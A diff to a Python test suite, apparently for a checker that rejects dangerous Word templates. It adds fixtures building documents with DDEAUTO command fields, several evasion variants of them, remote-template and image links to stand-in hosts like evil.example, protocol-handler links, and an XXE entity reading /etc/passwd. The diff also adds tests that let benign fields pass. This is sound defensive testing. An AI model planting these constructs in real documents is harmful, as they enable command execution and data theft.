@@ -84,9 +84,27 @@ def zipped(change: Callable[[zipfile.ZipFile], None]) -> bytes:
     return out.getvalue()
 
 
+def header_at(where: str) -> bytes:
+    """一个不在老地方的页眉，里面有会运行命令的域。"""
+    field = '<w:p><w:fldSimple w:instr="DDEAUTO cmd"/></w:p>'
+    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"
+    types = part(TYPES).replace(
+        b"</Types>", f'<Override PartName="/{where}" ContentType="{kind}"/></Types>'.encode()
+    )
+    relation = f'<Relationship Id="rIdH" Type="{OFFICE}/header" Target="/{where}"/></Relationships>'
+    return rewritten(
+        TEMPLATE,
+        {
+            TYPES: types,
+            RELS: part(RELS).replace(b"</Relationships>", relation.encode()),
+            where: f'<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">{field}</w:hdr>'.encode(),
+        },
+    )
+
+
 DTD = b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>'
 CORPUS: dict[str, tuple[Callable[[], bytes], str, str]] = {
-    "vba": (lambda: rewritten(TEMPLATE, {"word/vbaProject.bin": b"x"}), "带有宏或控件", "不带宏"),
+    "vba": (lambda: rewritten(TEMPLATE, {"word/vbaProject.bin": b"x"}), "带有宏", "不带宏"),
     "docm": (
         lambda: rewritten(
             TEMPLATE,
@@ -97,7 +115,7 @@ CORPUS: dict[str, tuple[Callable[[], bytes], str, str]] = {
                 )
             },
         ),
-        "带宏的 Word 文件",
+        "带有宏",
         "另存为",
     ),
     "dotx": (
@@ -107,8 +125,8 @@ CORPUS: dict[str, tuple[Callable[[], bytes], str, str]] = {
         "dotx",
         "另存为",
     ),
-    "activex": (lambda: rewritten(TEMPLATE, {"word/activeX/activeX1.xml": b"<x/>"}), "宏或控件", "删掉"),
-    "ole": (lambda: rewritten(TEMPLATE, {"word/embeddings/oleObject1.bin": b"x"}), "宏或控件", "删掉"),
+    "activex": (lambda: rewritten(TEMPLATE, {"word/activeX/activeX1.xml": b"<x/>"}), "带有控件", "删掉"),
+    "ole": (lambda: rewritten(TEMPLATE, {"word/embeddings/oleObject1.bin": b"x"}), "嵌入或链接的对象", "删掉"),
     "attached template": (
         lambda: related("attachedTemplate", "http://evil.example/t.dotm"),
         r"套用了文件以外的模板（http://evil.example/t.dotm）",
@@ -134,6 +152,73 @@ CORPUS: dict[str, tuple[Callable[[], bytes], str, str]] = {
         r"Alt\+F9",
     ),
     "tag in a field": (lambda: field('HYPERLINK "{{ 项目.名称 }}"'), "标签写在了域代码里", r"Alt\+F9"),
+    "code put together by a comment": (lambda: field("{#", "#}DDEAUTO cmd"), "标签写在了域代码里", r"Alt\+F9"),
+    "one brace in a code": (lambda: field("REF a}"), "标签写在了域代码里", r"Alt\+F9"),
+    "full-width name": (lambda: field("ＤＤＥ cmd"), "域 DDE", r"Alt\+F9"),
+    "soft hyphen in the name": (lambda: field("INCLUDE\u00adTEXT a"), "域 INCLUDETEXT", r"Alt\+F9"),
+    "deleted in a tracked change": (
+        lambda: with_body(
+            '<w:p><w:del w:id="1" w:author="a"><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+            "<w:r><w:delInstrText>DDEAUTO cmd</w:delInstrText></w:r>"
+            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:del></w:p>'
+        ),
+        "域 DDEAUTO",
+        r"Alt\+F9",
+    ),
+    "name from another field": (
+        lambda: with_body(
+            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+            "<w:r><w:instrText>REF a</w:instrText></w:r>"
+            '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText> cmd</w:instrText></w:r>'
+            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+        ),
+        "别的域拼出来",
+        r"Alt\+F9",
+    ),
+    "field of another namespace": (
+        lambda: with_body('<w:p><x:fldSimple xmlns:x="urn:x" x:instr="DDE cmd"/></w:p>'),
+        "域 DDE",
+        r"Alt\+F9",
+    ),
+    "link field to a file": (lambda: field(' HYPERLINK "file:///c:/a.exe" '), "a.exe", "链接"),
+    "link field to a share": (lambda: field(r' HYPERLINK "\\\\evil\\s" \o "x" '), "链接", "链接"),
+    "link field to a protocol": (lambda: field("HYPERLINK ms-word:ofe%7Cu%7Cx"), "ms-word", "链接"),
+    "vml link": (
+        lambda: with_body('<w:p><w:r><w:pict><v:rect xmlns:v="urn:schemas-microsoft-com:vml" href="search-ms:x"/></w:pict></w:r></w:p>'),
+        "search-ms",
+        "链接",
+    ),
+    "vml picture": (
+        lambda: with_body(
+            '<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="//evil/a.png"/></w:pict></w:r></w:p>'
+        ),
+        "文件以外的内容",
+        "插入图片",
+    ),
+    "shape with a macro": (
+        lambda: with_body('<w:p><w:r><x:sp xmlns:x="urn:x" macro="[0]!a"/></w:r></w:p>'),
+        "宏",
+        "删掉",
+    ),
+    "header in another folder": (lambda: header_at("custom/h.xml"), "域 DDEAUTO", r"Alt\+F9"),
+    "header in upper case": (lambda: header_at("WORD/HEADER9.XML"), "域 DDEAUTO", r"Alt\+F9"),
+    "relations in upper case": (
+        lambda: rewritten(
+            TEMPLATE,
+            {
+                "word/_rels/settings.xml.RELS": (
+                    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+                    f'<Relationship Id="a" Type="{OFFICE}/attachedTemplate" Target="http://e/x.dotm" TargetMode="EXTERNAL"/>'
+                    "</Relationships>"
+                ).encode()
+            },
+        ),
+        "套用了文件以外的模板",
+        "Normal.dotm",
+    ),
+    "a program inside": (lambda: rewritten(TEMPLATE, {"word/media/a.lnk": b"L"}), "用不着的内容", "新建"),
+    "customised ribbon": (lambda: related("extensibility", "../customUI/customUI.xml", ""), "用不着的内容", "新建"),
+    "document embedded as a workbook": (lambda: related("package", "embeddings/a.xlsx", ""), "缺少一部分", "删掉"),
     "dtd": (lambda: prolog(DTD), "settings.xml 带有外部定义", "来源"),
     "dtd after a comment": (lambda: prolog(b"<!--" + b"x" * 5000 + b"-->" + DTD), "外部定义", "来源"),
     "dtd far away": (lambda: prolog(b"<!--" + b"x" * 70_000 + b"-->" + DTD), "开头不正常", "来源"),
@@ -415,3 +500,14 @@ def test_a_file_that_is_no_file_is_not_read(tmp_path: Path) -> None:
     os.mkfifo(tmp_path / "管道.docx")
     with pytest.raises(UserError, match="不是普通的文件"):
         read_package(tmp_path / "管道.docx", ".docx")
+
+
+@pytest.mark.parametrize(
+    "code",
+    ["PAGE", " NUMPAGES ", "TOC \\o &quot;1-2&quot; \\h", "REF a \\h", "SEQ 图 \\* ARABIC", "= 1+1", 'HYPERLINK "https://a.cn/b"',
+     'HYPERLINK \\l "_Toc1"', "date \\@ &quot;yyyy年M月d日&quot;"],
+)  # fmt: skip
+def test_fields_that_number_and_refer_are_let_through(code: str, tmp_path: Path) -> None:
+    path = tmp_path / "模板.docx"
+    path.write_bytes(field(code))
+    assert checked_package(path) == path.read_bytes()
